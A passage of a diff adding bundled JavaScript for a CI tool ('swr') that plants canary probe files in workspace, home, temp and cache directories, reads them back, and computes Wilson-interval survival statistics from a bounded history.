+        ['workspace', 'home', 'tmp', 'abs'].includes(a.anchor) &&
+        typeof a.rel === 'string' &&
+        !a.rel.split('/').includes('..'));
+}
+/**
+ * Clean removes the directories a location lists as created (when empty), so a location may only
+ * list its own directory and that directory's parents, and only where planting creates any: the
+ * deep path and the temp directory carry this planting's name, a volatile directory is the named
+ * directory of the workspace, --at paths are the caller's; the workspace and home create nothing.
+ */
+function createdProblem(plantId, l) {
+    const under = (a, b) => a.anchor === b.anchor && (a.rel === b.rel || b.rel.startsWith(`${a.rel}/`));
+    if (!l.created.every(c => under(c, l.dir)))
+        return 'names a directory that is not the location';
+    if (l.created.length === 0)
+        return undefined;
+    const first = l.created[0];
+    const own = `swr-canary-${plantId}-`;
+    if (l.id === 'deep')
+        return first.anchor === 'workspace' && first.rel === `${own}deep`
+            ? undefined
+            : 'is not the deep path';
+    if (l.id === 'tmp')
+        return l.created.length === 1 && external_node_path_default().posix.basename(first.rel).startsWith(own)
+            ? undefined
+            : "is not this planting's temp directory";
+    if (l.id.startsWith('volatile:'))
+        return l.created.length === 1 &&
+            first.anchor === 'workspace' &&
+            first.rel === l.id.slice('volatile:'.length) &&
+            !first.rel.includes('/')
+            ? undefined
+            : 'is not the volatile directory';
+    return l.id.startsWith('at:') ? undefined : `lists directories, but ${l.id} creates none`;
+}
+function checkProbe(file, plantId, p, i, locations) {
+    const where = `probes[${i}]`;
+    if (!PROBE_CLASSES.includes(p?.class))
+        throw bad(file, `${where}.class is not a probe class`);
+    if (!locations.has(p.location))
+        throw bad(file, `${where}.location names no location`);
+    if (!isAnchored(p.path))
+        throw bad(file, `${where}.path is not an anchored path`);
+    // Clean unlinks what the ledger names: a ledger (say, restored from a poisoned cache) may only
+    // name files this planting's naming rule produces, never a user's file.
+    if (external_node_path_default().posix.basename(p.path.rel) !== probeName(plantId, p.class))
+        throw bad(file, `${where}.path is not a ${p.class} probe of planting ${plantId}`);
+    const e = p.expect;
+    if (typeof e !== 'object' ||
+        e === null ||
+        !['file', 'dir', 'symlink', 'hardlink'].includes(e.type))
+        throw bad(file, `${where}.expect.type is not file, dir, symlink or hardlink`);
+    if ((e.type === 'symlink' || e.type === 'hardlink') &&
+        typeof (e.type === 'symlink' ? e.target : e.peer) !== 'string')
+        throw bad(file, `${where}.expect has no link target`);
+    if (e.type === 'hardlink' && e.peer !== hardlinkPeerName(plantId))
+        throw bad(file, `${where}.expect.peer is not this planting's second name`);
+    if ((e.type === 'file' || e.type === 'hardlink') && !/^[0-9a-f]{64}$/.test(e.sha256))
+        throw bad(file, `${where}.expect.sha256 is not a sha256`);
+}
+/** The ledger, or undefined when nothing was planted; throws on a damaged ledger. */
+function ledger_readLedger(stateDir) {
+    const file = ledgerPath(stateDir);
+    const st = external_node_fs_default().lstatSync(file, { throwIfNoEntry: false });
+    if (!st)
+        return undefined;
+    if (!st.isFile())
+        throw bad(file, 'is not a regular file');
+    if (st.size > MAX_LEDGER_BYTES)
+        throw bad(file, `larger than ${MAX_LEDGER_BYTES} bytes`);
+    let v;
+    try {
+        v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
+    }
+    catch (e) {
+        throw bad(file, `not JSON (${e instanceof Error ? e.message : String(e)})`);
+    }
+    if (v?.format !== LEDGER_FORMAT)
+        throw bad(file, `format is not ${LEDGER_FORMAT}`);
+    if (typeof v.plant_id !== 'string' || !/^[0-9a-f]{8,32}$/.test(v.plant_id))
+        throw bad(file, 'plant_id is not a planting id');
+    if (!Array.isArray(v.locations) || !Array.isArray(v.probes))
+        throw bad(file, 'locations and probes must be arrays');
+    const ids = new Set();
+    v.locations.forEach((l, i) => {
+        if (typeof l?.id !== 'string' ||
+            !isAnchored(l.dir) ||
+            !Array.isArray(l.created) ||
+            !l.created.every(isAnchored))
+            throw bad(file, `locations[${i}] is malformed`);
+        const why = createdProblem(v.plant_id, l);
+        if (why)
+            throw bad(file, `locations[${i}].created ${why}`);
+        ids.add(l.id);
+    });
+    v.probes.forEach((p, i) => checkProbe(file, v.plant_id, p, i, ids));
+    // Shape first (errors name the field), then the MAC, before anything acts on the ledger.
+    authenticate(stateDir, file, v);
+    return v;
+}
+function ledger_removeLedger(stateDir) {
+    external_node_fs_default().rmSync(ledgerPath(stateDir), { force: true });
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/locations.ts
+/**
+ * Where probes go: the places a runner, cache or sandbox treats differently. The workspace root, a
+ * path 20 directories deep (path-length and depth limits), every volatile directory that exists
+ * or is asked for (node_modules, build, .cache, ...: the usual exclusions), $HOME, a fresh
+ * directory in the temp dir, and every `--at` path (what a cache step saves).
+ */
+
+
+
+
+
+
+const DEEP_LEVELS = 20;
+function isRealDir(abs) {
+    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
+    return st?.isDirectory() === true;
+}
+function checkAt(abs) {
+    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
+    if (!st)
+        return;
+    if (st.isSymbolicLink())
+        throw new errors_UsageError(`--at ${abs}: is a symlink; give the directory it points to`);
+    if (!st.isDirectory())
+        throw new errors_UsageError(`--at ${abs}: is not a directory`);
+}
+/** An --at path inside the workspace may not pass through a symlink there (the workspace is hostile). */
+function insideWorkspaceNoFollow(workspace, abs, at) {
+    const rel = no_follow_relativeInside(workspace, abs);
+    if (rel === undefined || rel === '.')
+        return;
+    try {
+        no_follow_resolveNoFollow(workspace, rel);
+    }
+    catch (e) {
+        if (e instanceof no_follow_SymlinkRefusal)
+            throw new errors_UsageError(`--at ${at}: ${e.message}`);
+        throw e;
+    }
+}
+function planLocations(req) {
+    const out = [
+        { id: 'workspace', abs: req.workspace, make: 'exists' },
+        { id: 'deep', abs: external_node_path_default().join(req.workspace, `swr-canary-${req.plantId}-deep`), make: 'deep' }
+    ];
+    const names = new Set(req.volatile);
+    for (const name of volatile_dirs_VOLATILE_DIRS)
+        if (isRealDir(external_node_path_default().join(req.workspace, name)))
+            names.add(name);
+    for (const name of [...names].sort()) {
+        if (!/^[^/\0]{1,255}$/.test(name) || name === '.' || name === '..')
+            throw new errors_UsageError(`--volatile ${JSON.stringify(name)}: give a directory name, not a path`);
+        const abs = external_node_path_default().join(req.workspace, name);
+        // A probe, the multi-GiB large one included, must never land outside through a planted link.
+        if (external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false })?.isSymbolicLink())
+            throw new errors_UsageError(`--volatile ${JSON.stringify(name)}: ${JSON.stringify(name)} in the workspace is a symlink; not planting through it`);
+        out.push({ id: `volatile:${name}`, abs, make: isRealDir(abs) ? 'exists' : 'mkdir' });
+    }
+    if (req.includeHome && isRealDir(req.home))
+        out.push({ id: 'home', abs: req.home, make: 'exists' });
+    if (req.includeTmp)
+        out.push({ id: 'tmp', abs: req.tmp, make: 'mkdtemp' });
+    for (const at of req.at) {
+        const abs = external_node_path_default().resolve(at);
+        if (abs === external_node_path_default().parse(abs).root)
+            throw new errors_UsageError(`--at ${at}: refusing the root directory`);
+        checkAt(abs);
+        insideWorkspaceNoFollow(req.workspace, abs, at);
+        // Named as anchored, so the same directory keeps one history row across runners and paths.
+        out.push({
+            id: `at:${showAnchored(anchor_anchor(abs, req))}`,
+            abs,
+            make: external_node_fs_default().existsSync(abs) ? 'exists' : 'mkdir'
+        });
+    }
+    // One location per directory: $HOME may be the workspace, an --at path may repeat another.
+    const seen = new Set();
+    return out.filter(l => l.make === 'mkdtemp' || !seen.has(l.abs) ? (seen.add(l.abs), true) : false);
+}
+/** Make the location exist; returns the directory and what was created, for undo and clean. */
+function materialize(loc, plantId, anchors, created) {
+    let dir = loc.abs;
+    const mine = [];
+    switch (loc.make) {
+        case 'exists':
+            break;
+        case 'mkdir': {
+            const first = external_node_fs_default().mkdirSync(loc.abs, { recursive: true, mode: 0o755 });
+            // mkdirSync returns the first directory it made: every level from there down is ours.
+            if (first)
+                for (let d = loc.abs;; d = external_node_path_default().dirname(d)) {
+                    mine.unshift(d);
+                    if (d === first)
+                        break;
+                }
+            break;
+        }
+        case 'deep': {
+            external_node_fs_default().mkdirSync(loc.abs, { mode: 0o755 });
+            mine.push(loc.abs);
+            for (let i = 2; i <= DEEP_LEVELS; i++) {
+                dir = external_node_path_default().join(dir, `d${String(i).padStart(2, '0')}`);
+                external_node_fs_default().mkdirSync(dir, { mode: 0o755 });
+                mine.push(dir);
+            }
+            break;
+        }
+        case 'mkdtemp':
+            // A fresh random directory: never a fixed name in a directory other users share.
+            dir = external_node_fs_default().mkdtempSync(external_node_path_default().join(loc.abs, `swr-canary-${plantId}-`));
+            mine.push(dir);
+            break;
+    }
+    created.push(...mine);
+    return {
+        location: { id: loc.id, dir: anchor_anchor(dir, anchors), created: mine.map(d => anchor_anchor(d, anchors)) },
+        abs: dir
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/plant.ts
+/**
+ * Planting: decide the locations, create every probe exclusively, and record them in the ledger.
+ * All or nothing: when any probe cannot be created, everything this planting made is removed and
+ * no ledger is written, so a failed plant leaves the machine as it was.
+ */
+
+
+
+
+
+
+
+
+
+const DEFAULT_LARGE_BYTES = 64 * 1024 * 1024;
+/** Locations that only test names and depth: no large file there. */
+const NO_LARGE = new Set(['deep']);
+function classesFor(loc, largeBytes) {
+    return plantingOrder(PROBE_CLASSES.filter(c => c !== 'large' || (largeBytes > 0 && !NO_LARGE.has(loc.id))));
+}
+function undo(created) {
+    for (const p of [...created].reverse()) {
+        try {
+            const st = external_node_fs_default().lstatSync(p);
+            if (st.isDirectory())
+                external_node_fs_default().rmdirSync(p);
+            else
+                external_node_fs_default().unlinkSync(p);
+        }
+        catch {
+            // Already gone, or no longer ours to remove (not empty): leave it.
+        }
+    }
+}
+function retire(opts) {
+    const old = ledger_readLedger(opts.stateDir);
+    if (!old)
+        return undefined;
+    if (!old.read_at && !opts.replace)
+        throw new errors_UsageError(`a planting (${old.plant_id}, ${old.planted_at}) was never read: run "swr canary read" first, or plant with --replace to discard it`);
+    const cleaned = clean_cleanLedger(old, opts.anchors);
+    return { plant_id: old.plant_id, removed: cleaned.removed.length };
+}
+function plantCanaries(opts) {
+    const largeBytes = opts.largeBytes ?? DEFAULT_LARGE_BYTES;
+    const plantId = opts.plantId ?? (0,external_node_crypto_.randomBytes)(4).toString('hex');
+    // The old planting goes first: it may have created a directory this one would otherwise reuse.
+    const replaced = retire(opts);
+    const planned = planLocations({
+        ...opts.anchors,
+        plantId,
+        at: opts.at ?? [],
+        volatile: opts.volatile ?? [],
+        includeHome: opts.includeHome ?? true,
+        includeTmp: opts.includeTmp ?? true
+    });
+    const created = [];
+    const locations = [];
+    const probes = [];
+    try {
+        for (const p of planned) {
+            const { location: loc, abs: dir } = materialize(p, plantId, opts.anchors, created);
+            locations.push(loc);
+            for (const cls of classesFor(loc, largeBytes)) {
+                const { name, expect } = plantProbe(cls, { plantId, dir, largeBytes, created });
+                probes.push({
+                    class: cls,
+                    location: loc.id,
+                    path: anchor_anchor(external_node_path_default().join(dir, name), opts.anchors),
+                    expect
+                });
+            }
+        }
+        const ledger = {
+            format: LEDGER_FORMAT,
+            plant_id: plantId,
+            planted_at: (opts.now ?? new Date()).toISOString(),
+            context: opts.context,
+            large_bytes: largeBytes,
+            locations,
+            probes
+        };
+        writeLedger(opts.stateDir, ledger);
+        return replaced ? { ledger, replaced } : { ledger };
+    }
+    catch (err) {
+        undo(created);
+        if (err instanceof errors_SwrError)
+            throw err;
+        // A disk error (a directory the disk had no room for) keeps the one line and exit of every
+        // write of swr; only the planting's own failures are worded here.
+        const disk = diskError(err);
+        if (disk)
+            throw disk;
+        const e = err;
+        const code = errors_errnoCode(err);
+        throw new errors_SwrError(code === 'EEXIST'
+            ? `canary plant: ${e.path} already exists: planting never replaces a file (nothing was planted)`
+            : `canary plant: ${[e.syscall, e.path].filter(Boolean).join(' ')}: ${code ?? e.message} (nothing was planted)`, errors_EXIT.UNREPAIRABLE);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/history/history.ts
+/**
+ * The history: one JSON line per observation (a canary read, a recorded check), in the private
+ * state directory. Bounded: when the current file reaches its limit it becomes `history.1.jsonl`
+ * (replacing the previous generation), so the history never grows without end and the newest
+ * records are never the ones dropped. Appends use O_APPEND with one write per record, so
+ * concurrent writers interleave whole lines; a line that does not parse is skipped on read.
+ */
+
+
+
+
+const HISTORY_FILE = 'history.jsonl';
+const HISTORY_ROTATED = 'history.1.jsonl';
+const history_DEFAULT_LIMITS = {
+    maxRecords: 1000,
+    maxBytes: 4 * 1024 * 1024
+};
+/** One check's record: the status of every entry it checked (for stats and `swr why`). */
+function checkRecord(report, manifest, context) {
+    return {
+        v: 1,
+        kind: 'check',
+        time: report.timing.started,
+        context,
+        manifest: manifest.file,
+        digest: manifest.digest,
+        entries: Object.fromEntries(report.results.map(f => [f.id, f.status]))
+    };
+}
+function countLines(file) {
+    const buf = external_node_fs_default().readFileSync(file);
+    let n = 0;
+    for (let i = buf.indexOf(10); i !== -1; i = buf.indexOf(10, i + 1))
+        n++;
+    return n;
+}
+function rotateIfFull(dir, limits) {
+    const file = external_node_path_default().join(dir, HISTORY_FILE);
+    const st = external_node_fs_default().lstatSync(file, { throwIfNoEntry: false });
+    if (!st)
+        return;
+    if (st.size < limits.maxBytes && countLines(file) < limits.maxRecords)
+        return;
+    external_node_fs_default().renameSync(file, external_node_path_default().join(dir, HISTORY_ROTATED));
+}
+function appendHistory(stateDir, record, limits = {}) {
+    const l = { ...history_DEFAULT_LIMITS, ...limits };
+    const dir = state_dir_ensurePrivateDir(stateDir);
+    rotateIfFull(dir, l);
+    appendRecord(external_node_path_default().join(dir, HISTORY_FILE), JSON.stringify(record) + '\n', {
+        create: true,
+        mode: 0o600
+    });
+}
+function isRecord(v) {
+    const r = v;
+    if (typeof r !== 'object' || r === null || r.v !== 1 || typeof r.time !== 'string')
+        return false;
+    if (Number.isNaN(Date.parse(r.time)))
+        return false;
+    if (r.kind === 'canary')
+        return typeof r.classes === 'object' && typeof r.locations === 'object';
+    if (r.kind === 'check')
+        return typeof r.entries === 'object' && typeof r.manifest === 'string';
+    return false;
+}
+function readHistory(stateDir) {
+    const out = { records: [], skipped: 0 };
+    for (const name of [HISTORY_ROTATED, HISTORY_FILE]) {
+        let text;
+        try {
+            text = external_node_fs_default().readFileSync(external_node_path_default().join(stateDir, name), 'utf8');
+        }
+        catch {
+            continue;
+        }
+        for (const line of text.split('\n')) {
+            if (!line.trim())
+                continue;
+            try {
+                const v = JSON.parse(line);
+                if (isRecord(v))
+                    out.records.push(v);
+                else
+                    out.skipped++;
+            }
+            catch {
+                out.skipped++;
+            }
+        }
+    }
+    out.records.sort((a, b) => Date.parse(a.time) - Date.parse(b.time));
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/inspect.ts
+/**
+ * Reading one probe back: intact, altered (naming each attribute that changed) or lost. Nothing is
+ * followed out of place: the probe is lstat'ed, and a link's target is resolved only to learn
+ * whether it still leads to the kind of thing it was planted to.
+ */
+
+
+
+function kindOf(st) {
+    if (st.isSymbolicLink())
+        return 'symlink';
+    if (st.isDirectory())
+        return 'dir';
+    if (st.isFile())
+        return 'file';
+    return 'other';
+}
+function inspect_hashFile(abs) {
+    const hash = (0,external_node_crypto_.createHash)('sha256');
+    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
+    try {
+        const buf = Buffer.allocUnsafe(1 << 20);
+        for (let n; (n = external_node_fs_default().readSync(fd, buf, 0, buf.length, null)) > 0;)
+            hash.update(buf.subarray(0, n));
+    }
+    finally {
+        external_node_fs_default().closeSync(fd);
+    }
+    return hash.digest('hex');
+}
+class Findings {
+    attributes = [];
+    details = [];
+    add(a, detail) {
+        if (!this.attributes.includes(a))
+            this.attributes.push(a);
+        this.details.push(detail);
+    }
+    outcome() {
+        return this.attributes.length === 0
+            ? { state: 'intact' }
+            : { state: 'altered', attributes: this.attributes, detail: this.details.join('; ') };
+    }
+}
+function checkMode(f, want, st) {
+    const wantBits = parseInt(want, 8);
+    const got = st.mode & 0o7777;
+    if (got === wantBits)
+        return;
+    const shown = `mode 0${got.toString(8).padStart(3, '0')} (want ${want})`;
+    // Losing a wanted exec bit is its own finding: it is what breaks scripts after a restore.
+    if ((wantBits & 0o111) !== 0 && (got & wantBits & 0o111) !== (wantBits & 0o111))
+        f.add('exec-bit', shown);
+    else
+        f.add('mode', shown);
+}
+function checkContent(f, abs, st, size, digest) {
+    if (st.size !== size) {
+        f.add('size', `${st.size.toLocaleString('en-US')} bytes (want ${size.toLocaleString('en-US')})`);
+        return;
+    }
+    if (inspect_hashFile(abs) !== digest)
+        f.add('content', 'same size, different content');
+}
+function targetKind(abs) {
+    try {
+        return kindOf(external_node_fs_default().statSync(abs));
+    }
+    catch {
+        return undefined;
+    }
+}
+/** Compare the probe at `abs` (and a hard link's peer beside it) with what was planted. */
+function inspectProbe(probe, abs) {
+    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
+    const want = probe.expect;
+    const f = new Findings();
+    if (want.type === 'hardlink') {
+        const peer = external_node_fs_default().lstatSync(external_node_path_default().join(external_node_path_default().dirname(abs), want.peer), { throwIfNoEntry: false });
+        if (!st && !peer)
+            return { state: 'lost' };
+        if (!st || !peer) {
+            f.add('hardlink', `${!st ? 'first' : 'second'} name lost`);
+            return f.outcome();
+        }
+        if (!st.isFile()) {
+            f.add('type', `a ${kindOf(st)} (want file)`);
+            return f.outcome();
+        }
+        if (st.ino !== peer.ino || st.dev !== peer.dev)
+            f.add('hardlink', 'the two names are separate files now');
+        checkMode(f, want.mode, st);
+        checkContent(f, abs, st, want.size, want.sha256);
+        return f.outcome();
+    }
+    if (!st)
+        return { state: 'lost' };
+    const expectedKind = want.type;
+    if (kindOf(st) !== expectedKind) {
+        f.add('type', `a ${kindOf(st)} (want ${expectedKind})`);
+        return f.outcome();
+    }
+    switch (want.type) {
+        case 'file':
+            checkMode(f, want.mode, st);
+            checkContent(f, abs, st, want.size, want.sha256);
+            break;
+        case 'dir':
+            checkMode(f, want.mode, st);
+            break;
+        case 'symlink': {
+            const target = external_node_fs_default().readlinkSync(abs);
+            if (target !== want.target)
+                f.add('link-target', `points to ${target} (want ${want.target})`);
+            const reached = targetKind(abs);
+            if (reached === undefined)
+                f.add('dangling', `${target} does not exist`);
+            else if (reached !== want.resolves && target === want.target)
+                f.add('link-target', `leads to a ${reached} (want ${want.resolves})`);
+            break;
+        }
+    }
+    return f.outcome();
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/read.ts
+/**
+ * Reading a planting back: each probe compared with the ledger, tallied by class and by location,
+ * the ledger marked read, and one record appended to the history (canary reads always record:
+ * survival over many runs is the point).
+ */
+
+
+
+
+
+
+const CANARY_READ_SCHEMA = 'swr.canary-read/1';
+function tally() {
+    return { intact: 0, altered: 0, lost: 0 };
+}
+function readCanaries(opts) {
+    const ledger = ledger_readLedger(opts.stateDir);
+    if (!ledger)
+        throw new errors_SwrError('no canary planting to read: run "swr canary plant" first', errors_EXIT.BAD_MANIFEST);
+    const readAt = (opts.now ?? new Date()).toISOString();
+    const reading = {
+        schema: CANARY_READ_SCHEMA,
+        plant_id: ledger.plant_id,
+        planted_at: ledger.planted_at,
+        read_at: readAt,
+        planted_by: ledger.context,
+        read_by: opts.context,
+        reread: ledger.read_at !== undefined,
+        totals: tally(),
+        classes: {},
+        locations: {},
+        probes: []
+    };
+    for (const p of ledger.probes) {
+        const outcome = inspectProbe(p, resolveAnchored(p.path, opts.anchors));
+        reading.probes.push({
+            class: p.class,
+            location: p.location,
+            path: showAnchored(p.path),
+            outcome
+        });
+        const cls = (reading.classes[p.class] ??= { ...tally(), attributes: {} });
+        const loc = (reading.locations[p.location] ??= tally());
+        for (const t of [reading.totals, cls, loc])
+            t[outcome.state]++;
+        if (outcome.state === 'altered')
+            for (const a of outcome.attributes)
+                cls.attributes[a] = (cls.attributes[a] ?? 0) + 1;
+    }
+    // Classes in their canonical order, whatever order the ledger listed probes in.
+    reading.classes = Object.fromEntries(PROBE_CLASSES.flatMap(c => (reading.classes[c] ? [[c, reading.classes[c]]] : [])));
+    writeLedger(opts.stateDir, { ...ledger, read_at: ledger.read_at ?? readAt });
+    appendHistory(opts.stateDir, canaryRecord(reading), opts.history);
+    return reading;
+}
+function canaryRecord(r) {
+    const strip = (t) => ({ intact: t.intact, altered: t.altered, lost: t.lost });
+    return {
+        v: 1,
+        kind: 'canary',
+        time: r.read_at,
+        context: r.read_by,
+        plant_id: r.plant_id,
+        planted_at: r.planted_at,
+        classes: Object.fromEntries(Object.entries(r.classes).map(([k, t]) => [k, strip(t)])),
+        locations: r.locations
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/archive/scratch-copy.ts
+/**
+ * A cache archive of swr's own state (a pulled manifest bundle, the canary state) unpacked into a
+ * fresh private scratch directory under fixed bounds, holding nothing but directories and regular
+ * files. The caller parses and checks it there, and only then takes what it needs.
+ */
+
+
+
+
+
+
+function onlyPlain(dir) {
+    for (const ent of external_node_fs_default().readdirSync(dir, { withFileTypes: true })) {
+        const abs = external_node_path_default().join(dir, ent.name);
+        if (ent.isDirectory())
+            onlyPlain(abs);
+        else if (!ent.isFile())
+            throw new Rejected(`not a regular file: ${ent.name}`);
+    }
+}
+/** Unpack `archive` (the cache of one directory) into scratch; throws a Rejected. */
+async function scratchCopy(archive, scratchBase, bounds) {
+    const dir = makeScratch(scratchBase, 'swr-state');
+    const root = external_node_path_default().join(dir, 'w');
+    const dispose = () => removeScratch(dir);
+    try {
+        const x = new EntryExtractor(archive.prefix, root, {
+            kind: 'bounded',
+            ...bounds,
+            single: false
+        });
+        try {
+            await unpack(await archive.open(), archive.compression, x);
+        }
+        finally {
+            x.abort();
+        }
+        x.finish();
+        if (!external_node_fs_default().lstatSync(root).isDirectory())
+            throw new Rejected('the archive does not hold a directory');
+        onlyPlain(root);
+        return { root, dispose };
+    }
+    catch (err) {
+        dispose();
+        if (err instanceof Rejected)
+            throw err;
+        throw new Rejected(`${err.code ?? 'error'}: ${String(err.message).split('\n')[0]}`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/history/context.ts
+/**
+ * Who made an observation: enough of the runner, job and machine to tell the platforms apart
+ * when their survival differs. Built from an environment the shell passes in.
+ */
+
+const FROM_ENV = [
+    ['runner_os', 'RUNNER_OS'],
+    ['runner_name', 'RUNNER_NAME'],
+    ['runner_arch', 'RUNNER_ARCH'],
+    ['repository', 'GITHUB_REPOSITORY'],
+    ['workflow', 'GITHUB_WORKFLOW'],
+    ['job', 'GITHUB_JOB'],
+    ['run_id', 'GITHUB_RUN_ID'],
+    ['run_attempt', 'GITHUB_RUN_ATTEMPT']
+];
+function runContext(env) {
+    const ctx = { platform: `${process.platform}-${process.arch}` };
+    for (const [field, name] of FROM_ENV) {
+        const v = env[name];
+        if (v)
+            ctx[field] = v.slice(0, 200);
+    }
+    if (!ctx.runner_name)
+        ctx.host = external_node_os_default().hostname().slice(0, 200);
+    return ctx;
+}
+/** One short label for tables: `Linux/runner-3`, `host.local`. */
+function contextLabel(ctx) {
+    if (ctx.runner_os || ctx.runner_name)
+        return [ctx.runner_os, ctx.runner_name].filter(Boolean).join('/');
+    return ctx.host ?? ctx.platform;
+}
+
+;// CONCATENATED MODULE: ./src/core/history/wilson.ts
+/**
+ * The Wilson score interval for a binomial proportion: unlike the normal approximation it stays
+ * inside [0, 1] and does not collapse to zero width at 0 or n successes, which is exactly where
+ * survival data lives (a path kept in every one of 6 runs is not "certainly kept").
+ */
+/** z for a two-sided 95% interval. */
+const Z95 = 1.959963984540054;
+function wilson(successes, n, z = Z95) {
+    if (!Number.isInteger(successes) ||
+        !Number.isInteger(n) ||
+        n < 0 ||
+        successes < 0 ||
+        successes > n)
+        throw new RangeError(`wilson: need 0 <= successes <= n, got ${successes} of ${n}`);
+    if (n === 0)
+        return { low: 0, high: 1 };
+    const p = successes / n;
+    const z2 = z * z;
+    const centre = p + z2 / (2 * n);
+    const spread = z * Math.sqrt((p * (1 - p)) / n + z2 / (4 * n * n));
+    const denom = 1 + z2 / n;
+    // Clamped to the rate as well as to [0, 1]: at 0 or n successes the formula's bound equals the
+    // rate exactly, and floating point must not put it a rounding step on the wrong side.
+    return {
+        low: successes === 0 ? 0 : Math.max(0, Math.min(p, (centre - spread) / denom)),
+        high: successes === n ? 1 : Math.min(1, Math.max(p, (centre + spread) / denom))
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/history/stats.ts
+/**
+ * Survival statistics from the history: per canary class, per canary location and per manifest
+ * entry, the share of runs that kept it whole with its 95% Wilson interval and the number of runs
+ * observed (one per reading: probes of one reading are not independent), plus each key's
+ * recent trend (newest first) and the survival of every recorded run for charts.
+ */
+
+
+const STATS_SCHEMA = 'swr.stats/1';
+const TREND_RUNS = 10;
+function mark(survived, n) {
+    return survived === n ? 'kept' : survived === 0 ? 'lost' : 'partial';
+}
+function observe(map, key, survived, n, time) {
+    if (n === 0)
+        return;
+    const a = map.get(key) ?? { n: 0, survived: 0, probes: 0, intact: 0, marks: [], last: time };
+    const m = mark(survived, n);
+    a.n += 1;
+    a.survived += m === 'kept' ? 1 : 0;
+    a.probes += n;
+    a.intact += survived;
+    a.marks.push(m);
+    a.last = time;
+    map.set(key, a);
+}
+function rows(map) {
+    return ([...map]
+        .map(([key, a]) => {
+        const ci = wilson(a.survived, a.n);
+        return {
+            key,
+            n: a.n,
+            survived: a.survived,
+            probes: a.probes,
+            probes_intact: a.intact,
+            rate: a.survived / a.n,
+            low: ci.low,
+            high: ci.high,
+            trend: a.marks.slice(-TREND_RUNS).reverse(),
+            last_seen: a.last
+        };
+    })
+        // What needs attention first: lowest survival, then fewest observations, then name.
+        .sort((x, y) => x.rate - y.rate || x.n - y.n || x.key.localeCompare(y.key)));
+}
+const total = (t) => t.intact + t.altered + t.lost;
+/** Records must be oldest first (as readHistory returns them). */
+function computeStats(records) {
+    const classes = new Map();
+    const locations = new Map();
+    const entries = new Map();
+    const runs = [];
+    for (const r of records) {
+        if (r.kind === 'canary') {
+            let kept = 0;
+            let all = 0;
+            for (const [k, t] of Object.entries(r.classes)) {
+                observe(classes, k, t.intact, total(t), r.time);
+                kept += t.intact;
+                all += total(t);
+            }
+            for (const [k, t] of Object.entries(r.locations))
+                observe(locations, k, t.intact, total(t), r.time);
+            if (all > 0)
+                runs.push({
+                    time: r.time,
+                    kind: 'canary',
+                    survival: kept / all,
+                    label: contextLabel(r.context)
+                });
+        }
+        else {
+            const statuses = Object.entries(r.entries);
+            for (const [id, status] of statuses)
+                observe(entries, id, status === 'OK' ? 1 : 0, 1, r.time);
+            const ok = statuses.filter(([, s]) => s === 'OK').length;
+            if (statuses.length > 0)
+                runs.push({
+                    time: r.time,
+                    kind: 'check',
+                    survival: ok / statuses.length,
+                    label: contextLabel(r.context)
+                });
+        }
+    }
+    const stats = {
+        schema: STATS_SCHEMA,
+        records: records.length,
+        canary_runs: records.filter(r => r.kind === 'canary').length,
+        check_runs: records.filter(r => r.kind === 'check').length,
+        classes: rows(classes),
+        locations: rows(locations),
+        entries: rows(entries),
+        runs
+    };
+    if (records.length > 0) {
+        stats.first = records[0].time;
+        stats.last = records[records.length - 1].time;
+    }
+    return stats;
+}
+/** How often `id` was damaged in its last `window` recorded checks (for `swr why`). */
+function recentLosses(records, id, window = TREND_RUNS) {
+    const seen = records.flatMap(r => (r.kind === 'check' && id in r.entries ? [r.entries[id]] : []));
+    const last = seen.slice(-window);
+    return { lost: last.filter(s => s !== 'OK').length, of: last.length };
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/canary.ts
+/**
+ * The canary use cases, shared by `swr canary plant|read|clean` and the Action's `canary-plant`,
+ * `canary-read`, `stats` and `record: true`. A planting's ledger and the survival history live
+ * in one state directory; the CLI keeps it in its private state directory and takes the canary
+ * lock while a command changes it, the Action carries it between runs through the cache.
+ *
+ * Each call returns a finished result the shells print: a planting, a reading (and what a
+ * clean removed), a clean, the survival statistics, or how a state carried in the cache came back.
+ * The anchors (workspace, home, temp dir) and the run's context are the shells' to give.
+ */
+
+
+
+
+
+
+
+
+
+
+
+/** The anchors as real paths (a path that does not resolve stays as given, made absolute). */
+function canaryAnchors(dirs) {
+    const real = (p) => {
+        try {
+            return external_node_fs_default().realpathSync(p);
+        }
+        catch {
+            return external_node_path_default().resolve(p);
+        }
+    };
+    return { workspace: real(dirs.workspace), home: real(dirs.home), tmp: real(dirs.tmp) };
+}
+async function canary_locked(state, fn) {
+    if (!state.lock)
+        return fn();
+    const release = await lockWorkspace({
+        stateDir: state.stateDir,
+        subject: ledgerPath(state.stateDir),
+        ...state.lock
+    });
+    try {
+        return fn();
+    }
+    finally {
+        await release();
+    }
+}
+/** Plant probes and write the ledger. */
+function plantCanary(state, opts) {
+    return canary_locked(state, () => plantCanaries({ ...opts, stateDir: state.stateDir }));
+}
+/**
+ * Compare every probe with the ledger and record the reading in the history; clean when asked.
+ * Nothing planted is a one-line error (exit 4).
+ */
+function readCanary(state, opts) {
+    return canary_locked(state, () => readNow(state.stateDir, opts));
+}
+/**
+ * As readCanary, but nothing planted is a result (undefined) rather than an error: the first run
+ * of a scheduled survival job has nothing to read yet.
+ */
+function readCanaryIfPlanted(state, opts) {
+    return canary_locked(state, () => ledger_readLedger(state.stateDir) ? readNow(state.stateDir, opts) : undefined);
+}
+function readNow(dir, opts) {
+    const reading = readCanaries({
+        stateDir: dir,
+        anchors: opts.anchors,
+        context: opts.context,
+        ...(opts.history ? { history: opts.history } : {})
+    });
+    if (!opts.clean)
+        return { reading };
+    const ledger = ledger_readLedger(dir);
+    const cleaned = ledger ? clean_cleanLedger(ledger, opts.anchors) : undefined;
